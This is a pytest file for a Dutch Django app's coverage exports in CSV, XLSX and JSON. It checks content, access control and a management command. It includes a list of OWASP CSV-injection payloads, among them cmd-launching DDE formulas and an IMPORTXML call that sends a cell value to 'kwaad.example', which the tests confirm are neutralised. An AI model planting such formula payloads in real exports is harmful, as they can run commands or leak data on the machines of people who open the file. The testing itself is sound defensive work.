"""The OCW coverage exports: content, formats, formula neutralisation, access, the command."""

import csv
import datetime
import io
import json

import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.core.management import CommandError, call_command
from openpyxl.utils import get_column_letter

from overzicht.exports import (
    KOLOMMEN,
    TOTALEN_KOLOMMEN,
    build_dekkingslijst,
    export_csv,
    export_json,
    export_xlsx,
    neutralise,
)
from steunpunten.coverage import overview
from steunpunten.models import Herkomst, Peiling, Samenwerkingsverband, Steunpunt
from steunpunten.permissions import GROUP_OCW, GROUP_SWV
from tests.helpers import MODEL_BACKEND, login_verified

pytestmark = pytest.mark.django_db

BASE = "https://vindplek.test/"
TOTALS_ROWS = 3 + 12  # all, PO, VO, then each province
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
EXPORT_URLS = ["/overzicht/export.csv", "/overzicht/export.xlsx", "/overzicht/export.json"]


def live_covered() -> int:
    """How many SWVs have a steunpunt now, by the single definition (coverage.py)."""
    return overview().alle.met_steunpunt


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


@pytest.mark.realdata
def test_csv_has_150_rows_and_the_totals():
    rows = read_csv(export_csv(build_dekkingslijst(basis_url=BASE)))
    header, body = rows[0], rows[1:]
    assert header == KOLOMMEN
    assert len(body) == 150 + 1 + TOTALS_ROWS
    swv_rows, empty, totals = body[:150], body[150], body[151:]
    assert all(cell == "" for cell in empty)
    assert {row[0] for row in swv_rows} == set(
        Samenwerkingsverband.objects.values_list("code", flat=True)
    )
    assert all(len(row) == len(KOLOMMEN) for row in body)
    assert sum(int(row[KOLOMMEN.index("met_steunpunt")]) for row in swv_rows) == live_covered()
    assert totals[0][2] == "Totaal" and totals[0][-2:] == [str(live_covered()), "150"]
    assert totals[1][1] == "PO" and totals[1][-1] == "76"
    assert totals[2][1] == "VO" and totals[2][-1] == "74"
    assert sum(int(row[-1]) for row in totals[3:]) == 150


@pytest.mark.realdata
def test_every_column_is_filled_where_the_data_has_it():
    rows = read_csv(export_csv(build_dekkingslijst(basis_url=BASE)))[1:151]
    by_code = {row[0]: dict(zip(KOLOMMEN, row, strict=True)) for row in rows}
    steunpunt = Steunpunt.objects.filter(
        gepubliceerd=True, status="actief", gecontroleerd_op__isnull=False
    ).first()
    swv = steunpunt.samenwerkingsverbanden.first()
    row = by_code[swv.code]
    assert row["sector"] == swv.sector and row["naam"] == swv.naam
    assert row["provincie"] == swv.provincie_naam
    assert row["status"] == "steunpunt actief"
    assert steunpunt.naam in row["steunpunten"].split(" | ")
    assert BASE.rstrip("/") + steunpunt.get_absolute_url() in row["steunpunt_urls"].split(" | ")
    assert steunpunt.gecontroleerd_op.isoformat() in row["gecontroleerd_op"]
    assert row["herkomst"].split(" | ")[0] in Herkomst.values
    gemeente = swv.postcodegebieden_po.first() or swv.postcodegebieden_vo.first()
    assert gemeente.gemeente in row["gemeenten"].split(" | ")
    assert all(r["gemeenten"] for r in by_code.values())
    uncovered = [r for r in by_code.values() if r["status"] == "geen steunpunt"]
    assert uncovered and all(r["steunpunten"] == "" for r in uncovered)


def test_website_column_holds_the_swv_website():
    swv = Samenwerkingsverband.objects.get(code="PO2707")
    swv.website = "https://swv.example.org/"
    swv.save()
    rows = read_csv(export_csv(build_dekkingslijst(basis_url=BASE)))
    row = next(r for r in rows if r[0] == "PO2707")
    assert row[KOLOMMEN.index("website")] == "https://swv.example.org/"


@pytest.mark.parametrize("start", DANGEROUS)
@pytest.mark.realdata
def test_formulas_are_neutralised_in_csv_and_xlsx(start):
    payload = f'{start}HYPERLINK("https://kwaad.example";"klik")'
    steunpunt = Steunpunt.objects.filter(gepubliceerd=True, status="actief").first()
    steunpunt.naam = payload
    steunpunt.save()
    swv = Samenwerkingsverband.objects.get(code="VO3101")
    swv.naam = payload
    swv.save()
    lijst = build_dekkingslijst(basis_url=BASE)

    csv_cells = [cell for row in read_csv(export_csv(lijst)) for cell in row]
    assert "'" + payload in csv_cells
    assert not any(cell.startswith(tuple(DANGEROUS)) for cell in csv_cells)

    sheet = read_xlsx(export_xlsx(lijst))
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    # XML turns a carriage return into a line feed; what counts is the apostrophe in front.
    hits = [cell for cell in cells if str(cell.value).startswith("'") and "kwaad" in cell.value]
    # The SWV's name, and the steunpunt's name on the row of each SWV it serves.
    assert len(hits) == 1 + steunpunt.samenwerkingsverbanden.count()
    for cell in cells:
        assert cell.data_type != "f", f"{cell.coordinate} is a formula"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(tuple(DANGEROUS))
    assert all(cell.data_type == "s" for cell in hits)


def test_control_characters_in_a_name_do_not_break_the_xlsx(client):
    steunpunt = Steunpunt.objects.filter(gepubliceerd=True, status="actief").first()
    steunpunt.naam = "Steunpunt\x1fmet\x07stuurtekens\x0b"
    steunpunt.save()
    sheet = read_xlsx(export_xlsx(build_dekkingslijst(basis_url=BASE)))
    names = [cell.value for row in sheet.iter_rows() for cell in row if cell.value]
    assert "Steunpuntmetstuurtekens" in names
    assert neutralise("regel 1\tkolom\nregel 2") == "regel 1\tkolom\nregel 2"


# The OWASP CSV-injection payloads, and the same behind what a spreadsheet drops or skips:
# a control character (dropped on export) and leading white space.
OWASP_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://kwaad.example","klik")',
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("https://kwaad.example/?v=", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
HIDDEN_PREFIXES = ["", "\x01", "\x1f\x00", " ", "   ", "\x0b ", "\n"]


@pytest.mark.parametrize("prefix", HIDDEN_PREFIXES)
@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_no_payload_survives_as_a_formula_whatever_precedes_it(payload, prefix):
    cleaned = neutralise(prefix + payload)
    assert cleaned.startswith("'"), repr(cleaned)
    assert not any(ord(ch) < 0x20 and ch not in "\t\n\r" for ch in cleaned)


@pytest.mark.parametrize("hidden", ["\x01", " ", "\x1f "])
def test_a_formula_behind_a_control_character_or_space_is_no_formula_cell(hidden):
    """The finding: "\x01=HYPERLINK(…)" became a live formula cell once \x01 was dropped."""
    steunpunt = Steunpunt.objects.filter(gepubliceerd=True, status="actief").first()
    steunpunt.naam = hidden + '=HYPERLINK("https://kwaad.example","klik")'
    steunpunt.save()
    lijst = build_dekkingslijst(basis_url=BASE)

    sheet = read_xlsx(export_xlsx(lijst))
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    hits = [cell for cell in cells if "kwaad" in str(cell.value)]
    assert hits
    for cell in hits:
        assert cell.data_type == "s" and cell.value.startswith("'"), cell.value
    assert not [cell for cell in cells if cell.data_type == "f"]
    csv_hits = [c for row in read_csv(export_csv(lijst)) for c in row if "kwaad" in c]
    assert csv_hits and all(cell.startswith("'") for cell in csv_hits)


def test_neutralise_leaves_safe_values_alone():
    assert neutralise("Steunpunt Utrecht") == "Steunpunt Utrecht"
    assert neutralise("0800-1234") == "0800-1234"
    assert neutralise(-5) == -5 and neutralise(None) is None
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"


@pytest.mark.realdata
def test_xlsx_has_dates_a_filter_a_frozen_header_and_the_totals_on_their_own_sheet():
    steunpunt = Steunpunt.objects.filter(gepubliceerd=True, status="actief").first()
    steunpunt.gecontroleerd_op = datetime.date(2026, 3, 4)
    steunpunt.save()
    lijst = build_dekkingslijst(basis_url=BASE)
    workbook = openpyxl.load_workbook(io.BytesIO(export_xlsx(lijst)))
    assert workbook.sheetnames == ["Dekking", "Totalen", "Vindplek nu", "Steunpunten"]
    sheet = workbook["Dekking"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == KOLOMMEN and len(values) == 1 + 150
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(KOLOMMEN))}151"
    assert all(sheet.column_dimensions[get_column_letter(i)].width >= 8 for i in range(1, 14))
    datum = KOLOMMEN.index("gecontroleerd_op")
    dates = [r[datum] for r in sheet.iter_rows(min_row=2) if r[datum].value is not None]
    assert dates and all(cell.is_date for cell in dates)
    assert all(isinstance(cell.value, datetime.datetime) for cell in dates)
    codes = {swv.code for swv in steunpunt.samenwerkingsverbanden.all()}
    own = [r for r in sheet.iter_rows(min_row=2) if r[0].value in codes]
    assert own and all(r[datum].value.date() <= datetime.date(2026, 3, 4) for r in own)
    # Coverage per row as numbers, the same as the CSV.
    met = KOLOMMEN.index("met_steunpunt")
    assert sum(r[met].value for r in sheet.iter_rows(min_row=2)) == live_covered()
    totalen = workbook["Totalen"]
    rows = [[cell.value for cell in row] for row in totalen.iter_rows()]
    assert rows[0] == TOTALEN_KOLOMMEN and len(rows) == 1 + TOTALS_ROWS
    assert rows[1][:1] == ["Totaal"] and rows[1][3] == live_covered() and rows[1][6] == 150
    assert totalen.freeze_panes == "A2" and totalen.auto_filter.ref


@pytest.mark.realdata
def test_demo_rows_are_marked_in_every_format():
    demo = Steunpunt.objects.voorbeelden().filter(gepubliceerd=True, status="actief").first()
    codes = {swv.code for swv in demo.samenwerkingsverbanden.all()}
    lijst = build_dekkingslijst(basis_url=BASE)
    kolom = KOLOMMEN.index("voorbeeldgegevens")
    csv_rows = {row[0]: row for row in read_csv(export_csv(lijst))[1:151]}
    assert all(csv_rows[code][kolom] == "ja" for code in codes)
    assert {row[kolom] for row in csv_rows.values()} <= {"ja", "nee"}
    sheet = read_xlsx(export_xlsx(lijst))
    xlsx_rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    assert all(xlsx_rows[code][kolom].value == "ja" for code in codes)
    data = json.loads(export_json(lijst))
    by_code = {r["code"]: r for r in data["samenwerkingsverbanden"]}
    assert all(by_code[code]["voorbeeldgegevens"] is True for code in codes)
    # Real data shows as such.
    Steunpunt.objects.update(herkomst=Herkomst.BEVESTIGD)
    lijst = build_dekkingslijst(basis_url=BASE)
    assert all(row[kolom] == "nee" for row in read_csv(export_csv(lijst))[1:151])


@pytest.mark.realdata
def test_json_shape():
    data = json.loads(export_json(build_dekkingslijst(basis_url=BASE)))
    assert set(data) == {
        "alleen_totaal",
        "peildatum",
        "peiling",
        "samenwerkingsverbanden",
        "totalen",
        "vindplek_nu",
    }
    assert data["alleen_totaal"] is False
    assert data["peiling"] is None
    assert len(data["samenwerkingsverbanden"]) == 150
    first = data["samenwerkingsverbanden"][0]
    assert set(first) == {
        "code",
        "sector",
        "naam",
        "provincie",
        "provincie_naam",
        "gemeenten",
        "status",
        "status_omschrijving",
        "steunpunten",
        "website",
        "voorbeeldgegevens",
        "vermelding",
    }
    assert isinstance(first["gemeenten"], list)
    covered = next(s for s in data["samenwerkingsverbanden"] if s["status"] == "actief")
    assert set(covered["steunpunten"][0]) == {
        "naam",
        "url",
        "gecontroleerd_op",
        "herkomst",
        "bron_url",
        "voorbeeldgegevens",
    }
    assert covered["steunpunten"][0]["url"].startswith(BASE)
    totalen = data["totalen"]
    assert totalen["alle"] == {
        "totaal": 150,
        "met_steunpunt": live_covered(),
        "in_oprichting": totalen["alle"]["in_oprichting"],
        "zonder_steunpunt": 150 - live_covered() - totalen["alle"]["in_oprichting"],
    }
    assert totalen["po"]["totaal"] == 76 and totalen["vo"]["totaal"] == 74
    assert len(totalen["provincies"]) == 12


def test_a_survey_export_shows_the_survey_not_today():
    steunpunt = Steunpunt.objects.filter(gepubliceerd=True, status="actief").first()
    steunpunt.gepubliceerd = False
    steunpunt.save()
    peiling = Peiling.objects.get(datum="2023-11-01")
    data = json.loads(export_json(build_dekkingslijst(basis_url=BASE, peiling=peiling)))
    assert data["peiling"]["datum"] == data["peildatum"] == "2023-11-01"
    assert data["totalen"]["alle"]["met_steunpunt"] == 127
    live = json.loads(export_json(build_dekkingslijst(basis_url=BASE)))
    assert live["totalen"]["alle"]["met_steunpunt"] == live_covered()


def test_the_export_of_a_survey_of_only_a_total_holds_only_that_total():
    """November 2023 gave 127 of 150: no rows per SWV, no split, no statuses made up."""
    lijst = build_dekkingslijst(basis_url=BASE, peiling=Peiling.objects.get(datum="2023-11-01"))
    data = json.loads(export_json(lijst))
    assert data["alleen_totaal"] is True and data["samenwerkingsverbanden"] == []
    assert data["totalen"] == {
        "alle": {
            "totaal": 150,
            "met_steunpunt": 127,
            "in_oprichting": None,
            "zonder_steunpunt": None,
        },
        "po": None,
        "vo": None,
        "provincies": None,
    }
    rows = read_csv(export_csv(lijst))
    assert len(rows) == 1 + 1 + 1  # header, the empty row, the total
    assert rows[-1][2] == "Totaal" and rows[-1][-2:] == ["127", "150"]
    assert "alleen het totaal" in rows[-1][KOLOMMEN.index("status")]
    totalen = openpyxl.load_workbook(io.BytesIO(export_xlsx(lijst)))["Totalen"]
    assert totalen.max_row == 2
    assert [c.value for c in totalen[2]][:7] == ["Totaal", None, None, 127, None, None, 150]


# Access -------------------------------------------------------------------------------------


def user_in(group_name: str | None, **fields) -> User:
    user = User.objects.create_user(f"u-{group_name}-{len(fields)}", password="x" * 16, **fields)
    if group_name:
        user.groups.add(Group.objects.get_or_create(name=group_name)[0])
    return user


def login(client, user):
    """Logged in with a verified second factor, as after the admin's login form."""
    return login_verified(client, user)


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_anonymous_users_are_sent_to_the_login(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith("/beheer/login/")
    assert "next=" in response["Location"]


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_swv_staff_may_not_export(client, url):
    login(client, user_in(GROUP_SWV, is_staff=True))
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_ocw_staff_may_export(client, url):
    login(client, user_in(GROUP_OCW, is_staff=True))
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="dekking-stand-')
    assert "no-cache" in response["Cache-Control"] or "no-store" in response["Cache-Control"]


@pytest.mark.realdata
def test_beheerder_may_export_a_survey(client):
    login(client, user_in(None, is_staff=True, is_superuser=True))
    from steunpunten.peilingen import record_peiling

    peiling = record_peiling(datum=datetime.date(2024, 3, 1))
    response = client.get("/overzicht/export.csv?peiling=2024-03-01")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="dekking-peiling-2024-03-01.csv"' in response["Content-Disposition"]
    rows = read_csv(response.content)
    assert rows[152][-2:] == [str(peiling.aantal_met_steunpunt), "150"]
    assert rows[1][KOLOMMEN.index("steunpunt_urls")].startswith("http://testserver/steunpunten/")


@pytest.mark.parametrize("value", ["gisteren", "2020-01-01", "2023-02-30"])
def test_unknown_survey_gets_a_dutch_400(client, value):
    login(client, user_in(GROUP_OCW, is_staff=True))
    response = client.get(f"/overzicht/export.json?peiling={value}")
    assert response.status_code == 400
    assert "peiling" in response.content.decode() or "datum" in response.content.decode()


def assert_sent_to_login(response):
    assert response.status_code == 302
    assert response["Location"].startswith("/beheer/login/")


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_inactive_ocw_user_may_not_export(client, url):
    login(client, user_in(GROUP_OCW, is_staff=True, is_active=True))
    User.objects.filter(groups__name=GROUP_OCW).update(is_active=False)
    assert_sent_to_login(client.get(url))


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_a_session_whose_totp_device_was_deleted_may_no_longer_export(client, url):
    device = login(client, user_in(GROUP_OCW, is_staff=True))
    assert client.get(url).status_code == 200
    device.delete()
    assert_sent_to_login(client.get(url))
    # The admin's own gate answers the same for this session.
    assert_sent_to_login(client.get("/beheer/"))


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_a_user_who_lost_is_staff_may_no_longer_export(client, url):
    user = user_in(None, is_staff=True, is_superuser=True)
    login(client, user)
    assert client.get(url).status_code == 200
    User.objects.filter(pk=user.pk).update(is_staff=False)
    assert_sent_to_login(client.get(url))
    assert_sent_to_login(client.get("/beheer/"))


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_a_password_only_session_may_not_export(client, url):
    # Logged in without passing the second factor (e.g. halfway through a login).
    client.force_login(user_in(GROUP_OCW, is_staff=True), backend=MODEL_BACKEND)
    assert_sent_to_login(client.get(url))


def test_export_gate_and_admin_gate_are_one_predicate(rf):
    from django.contrib.auth.models import AnonymousUser

    from beheer.site import BeheerAdminSite
    from steunpunten.permissions import can_export, passes_staff_gate

    ocw = user_in(GROUP_OCW, is_staff=True)
    ocw.is_verified = lambda: True
    request = rf.get("/beheer/")
    for user, expected in ((ocw, True), (AnonymousUser(), False)):
        request.user = user
        assert BeheerAdminSite().has_permission(request) is expected
        assert passes_staff_gate(user) is expected
        assert can_export(user) is expected
    ocw.is_verified = lambda: False
    request.user = ocw
    assert not BeheerAdminSite().has_permission(request) and not can_export(ocw)


# The command --------------------------------------------------------------------------------


@pytest.mark.realdata
def test_command_writes_each_format(tmp_path):
    for fmt in ("csv", "xlsx", "json"):
        target = tmp_path / f"dekking.{fmt}"
        call_command("export_dekking", format=fmt, output=str(target), stderr=io.StringIO())
        assert target.stat().st_size > 1000
    assert len(read_csv((tmp_path / "dekking.csv").read_bytes())) == 1 + 150 + 1 + TOTALS_ROWS
    assert read_xlsx((tmp_path / "dekking.xlsx").read_bytes()).max_row == 1 + 150
    data = json.loads((tmp_path / "dekking.json").read_text("utf-8"))
    assert data["totalen"]["alle"]["met_steunpunt"] == live_covered()


def test_command_for_a_survey_to_stdout():
    out = io.StringIO()
    call_command("export_dekking", format="json", peiling="2023-11-01", stdout=out)
    assert json.loads(out.getvalue())["peiling"]["datum"] == "2023-11-01"


def test_command_refuses_bad_input():
    with pytest.raises(CommandError, match="geen peiling"):
        call_command("export_dekking", peiling="2020-01-01", stdout=io.StringIO())
    with pytest.raises(CommandError, match="--output"):
        call_command("export_dekking", format="xlsx", stdout=io.StringIO())
